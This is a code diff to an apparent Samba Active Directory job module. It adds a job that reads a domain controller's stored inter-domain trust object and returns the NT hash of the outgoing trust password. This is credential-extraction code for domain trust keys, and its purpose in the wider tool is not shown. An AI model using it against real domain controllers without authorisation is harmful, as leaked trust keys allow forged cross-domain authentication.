@@ -208,4 +208,33 @@ class Rights:
         return sid.startswith("S-1-5-21-") and not sid.startswith(self.domain)
 
 
-SELECTIVE_JOBS = (selective,)
+def trust_key(job):
+    """The NT hash of the outgoing trust password, as this DC holds it: what a
+    secure channel to the partner is made with."""
+    import ldb
+    from samba.dcerpc import drsblobs
+    from samba.ndr import ndr_unpack
+    sam = local_sam()
+    found = sam.search(
+        ldb.Dn(sam, "CN=System," + str(sam.get_default_basedn())), ldb.SCOPE_ONELEVEL,
+        "(&(objectClass=trustedDomain)(trustPartner=%s))" % ldb.binary_encode(job["partner"]),
+        attrs=["trustAuthOutgoing"])
+    if not found or "trustAuthOutgoing" not in found[0]:
+        raise Failure("NoTrust", "this DC has no trust with %s that has an outgoing direction" % job["partner"])
+    blob = ndr_unpack(drsblobs.trustAuthInOutBlob, found[0]["trustAuthOutgoing"][0])
+    for entry in blob.current.array if blob.count else ():
+        if entry.AuthType == 2:  # clear text
+            return {"key": nt_hash(bytes(entry.AuthInfo.password))}
+        if entry.AuthType == 1:
+            return {"key": bytes(entry.AuthInfo.password.hash).hex()}
+    raise Failure("NoTrust", "the trust with %s has no password on this DC" % job["partner"])
+
+
+def nt_hash(clear):
+    from samba.credentials import Credentials
+    c = Credentials()
+    c.set_utf16_password(clear)
+    return c.get_nt_hash().hex()
+
+
+SELECTIVE_JOBS = (selective, trust_key)
